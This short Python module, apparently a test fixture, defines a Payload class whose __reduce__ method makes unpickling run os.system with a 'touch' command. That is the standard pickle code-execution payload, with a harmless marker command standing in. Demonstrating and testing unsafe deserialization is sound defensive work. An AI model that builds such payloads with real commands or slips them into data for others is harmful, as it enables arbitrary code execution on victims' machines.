"""What a hostile file holds."""

import os


class Payload:
    """Writes the file `path` where it is unpickled."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.system, (f"touch {self.path}",)
